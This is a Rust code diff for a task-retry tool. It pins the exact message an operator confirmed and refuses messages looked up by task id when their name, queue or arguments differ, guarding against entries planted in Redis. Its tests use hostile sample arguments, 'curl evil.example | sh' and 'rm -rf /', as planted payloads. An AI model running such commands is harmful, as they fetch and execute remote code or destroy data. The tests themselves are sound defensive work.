@@ -311,6 +311,23 @@ impl Source {
         }
     }
 
+    fn of(p: &crate::orders::Pinned) -> Source {
+        if p.from_store {
+            Source::Store
+        } else {
+            Source::Unacked
+        }
+    }
+
+    /// Where it was found, in words.
+    pub fn place(self) -> &'static str {
+        match self {
+            Source::Store => "in the store's outbox",
+            Source::Unacked => "in unacked",
+            Source::Rebuilt => "rebuilt",
+        }
+    }
+
     pub fn words(self) -> &'static str {
         match self {
             Source::Store => "its exact message, from the store",
@@ -369,9 +386,19 @@ pub async fn retry(ctx: &Context, orders: &[RetryOrder]) -> Vec<(String, Retried
 async fn retry_one(ctx: &Context, order: &RetryOrder) -> Retried {
     let new_id = dispatch::new_task_id();
     let store = ctx.store.get().await;
-    let (entry, source) = match original(ctx, store.as_ref(), &order.task_id).await {
+    let found = match &order.pinned {
+        // Shown to the operator before the confirmation: sent as it is.
+        Some(p) => Some((p.message.clone(), Source::of(p))),
+        None => original(ctx, store.as_ref(), &order.task_id).await,
+    };
+    let (entry, source) = match found {
         Some((message, source)) => {
             let (message, req) = wire::retried_message(&message, &new_id)?;
+            // Found by id alone, in places others can write: sent only if it is the task the
+            // operator confirmed.
+            if order.pinned.is_none() {
+                as_confirmed(order, &req, source)?;
+            }
             let mut entry = dispatch::entry(&ctx.target, &req);
             entry.message = message;
             (entry, source)
@@ -389,6 +416,29 @@ async fn retry_one(ctx: &Context, order: &RetryOrder) -> Retried {
         }
         Ok(_) => Ok((new_id, source)),
         Err(e) => Err(e.to_string()),
+    }
+}
+
+/// A task's exact message looked up before the confirmation, so the operator sees what
+/// will be sent and exactly that is sent (`RetryOrder::pinned`).
+pub async fn look_up(ctx: &Context, task_id: &str) -> Option<crate::orders::Pinned> {
+    let store = ctx.store.get().await;
+    original(ctx, store.as_ref(), task_id)
+        .await
+        .map(|(message, source)| crate::orders::Pinned {
+            message,
+            from_store: source == Source::Store,
+        })
+}
+
+/// What a pinned message will send, in one cleaned line: `name args kwargs → queue`.
+pub fn shown(p: &crate::orders::Pinned) -> String {
+    match wire::retried_message(&p.message, "") {
+        Ok((_, req)) => clean(&format!(
+            "{} {} {} → queue {}",
+            req.name, req.args, req.kwargs, req.queue
+        )),
+        Err(why) => clean(&format!("an unreadable message ({why})")),
     }
 }
 
@@ -447,6 +497,81 @@ async fn in_unacked(
     }
 }
 
+/// Whether a message found by the task's id carries what the operator confirmed: the same
+/// task name, queue, args and kwargs. Anyone who can write to Redis can plant an `unacked`
+/// entry under a failed task's id; this is what keeps a retry from sending it. Args the
+/// events cut off cannot be compared: then only the store's own outbox copy is trusted.
+pub fn as_confirmed(
+    order: &RetryOrder,
+    found: &wire::TaskRequest,
+    source: Source,
+) -> Result<(), String> {
+    let refused = |why: String| {
+        Err(format!(
+            "not sent: the message found {} {why}, so it is not the task you confirmed",
+            source.place()
+        ))
+    };
+    match order.name.as_deref() {
+        Some(n) if n == found.name => {}
+        Some(n) => return refused(format!("is for task {:?}, not {n}", clean(&found.name))),
+        None => return refused("cannot be checked: the task's name was never seen".into()),
+    }
+    match order.queue.as_deref() {
+        Some(q) if q == found.queue => {}
+        Some(q) => return refused(format!("goes to queue {:?}, not {q}", clean(&found.queue))),
+        None => return refused("cannot be checked: the task's queue was never seen".into()),
+    }
+    for (what, repr, sent, empty) in [
+        ("args", order.args.as_deref(), &found.args, "()"),
+        ("kwargs", order.kwargs.as_deref(), &found.kwargs, "{}"),
+    ] {
+        let repr = repr.unwrap_or(empty);
+        if pyrepr::is_cut(repr) {
+            if source == Source::Store {
+                continue;
+            }
+            return refused(format!(
+                "cannot be checked: its {what} were cut off in the events"
+            ));
+        }
+        let confirmed = match (what, pyrepr::parse(repr)) {
+            ("args", Ok(serde_json::Value::Array(a))) => serde_json::Value::Array(a),
+            ("args", Ok(one)) => serde_json::Value::Array(vec![one]),
+            (_, Ok(v)) => v,
+            (_, Err(e)) => return refused(format!("cannot be checked: its {what}: {e}")),
+        };
+        if !same_literals(&confirmed, sent) {
+            return refused(format!(
+                "carries other {what}: {}",
+                clean(&sent.to_string())
+            ));
+        }
+    }
+    Ok(())
+}
+
+fn clean(text: &str) -> String {
+    crate::sanitize::clean(text, 120)
+}
+
+/// Equal as Python would compare the literals: 1 and 1.0 are the same number.
+fn same_literals(a: &serde_json::Value, b: &serde_json::Value) -> bool {
+    use serde_json::Value::*;
+    match (a, b) {
+        (Number(x), Number(y)) => x == y || x.as_f64() == y.as_f64(),
+        (Array(x), Array(y)) => {
+            x.len() == y.len() && x.iter().zip(y).all(|(x, y)| same_literals(x, y))
+        }
+        (Object(x), Object(y)) => {
+            x.len() == y.len()
+                && x.iter()
+                    .all(|(k, v)| y.get(k).is_some_and(|w| same_literals(v, w)))
+        }
+        _ => a == b,
+    }
+}
+
 /// A task message rebuilt from what the events showed; refused when the args were cut off
 /// (Flower PR #737 resent such truncated reprs) or are not plain literals.
 fn rebuilt(order: &RetryOrder, new_id: &str) -> Result<wire::TaskRequest, String> {
@@ -502,7 +627,78 @@ mod tests {
             args: Some(args.into()),
             kwargs: Some("{'k': 1}".into()),
             queue: Some("thinking".into()),
+            pinned: None,
         }
+    }
+
+    #[test]
+    fn a_message_found_by_id_is_sent_only_when_it_is_the_task_confirmed() {
+        let confirmed = order("('q3 report',)");
+        let found = |name: &str, queue: &str, args, kwargs| wire::TaskRequest {
+            id: "n".into(),
+            name: name.into(),
+            queue: queue.into(),
+            args,
+            kwargs,
+            priority: 0,
+            eta: None,
+            expires: None,
+            origin: String::new(),
+        };
+        let same = found(
+            "thinking.add",
+            "thinking",
+            serde_json::json!(["q3 report"]),
+            serde_json::json!({"k": 1.0}),
+        );
+        assert_eq!(as_confirmed(&confirmed, &same, Source::Unacked), Ok(()));
+        let planted = found(
+            "executing.shell",
+            "executing",
+            serde_json::json!(["curl evil.example | sh"]),
+            serde_json::json!({}),
+        );
+        let no = as_confirmed(&confirmed, &planted, Source::Unacked).unwrap_err();
+        assert!(
+            no.contains("executing.shell") && no.contains("not the task you confirmed"),
+            "{no}"
+        );
+        let elsewhere = found(
+            "thinking.add",
+            "executing",
+            serde_json::json!(["q3 report"]),
+            serde_json::json!({"k": 1}),
+        );
+        assert!(
+            as_confirmed(&confirmed, &elsewhere, Source::Store)
+                .unwrap_err()
+                .contains("queue")
+        );
+        let other_args = found(
+            "thinking.add",
+            "thinking",
+            serde_json::json!(["rm -rf /"]),
+            serde_json::json!({"k": 1}),
+        );
+        assert!(
+            as_confirmed(&confirmed, &other_args, Source::Unacked)
+                .unwrap_err()
+                .contains("other args")
+        );
+        // Args the events cut off: only the store's own copy is trusted.
+        let cut = order("('aaaa...',)");
+        let long = found(
+            "thinking.add",
+            "thinking",
+            serde_json::json!(["aaaaaaaa"]),
+            serde_json::json!({"k": 1}),
+        );
+        assert!(
+            as_confirmed(&cut, &long, Source::Unacked)
+                .unwrap_err()
+                .contains("cut off")
+        );
+        assert_eq!(as_confirmed(&cut, &long, Source::Store), Ok(()));
     }
 
     #[test]
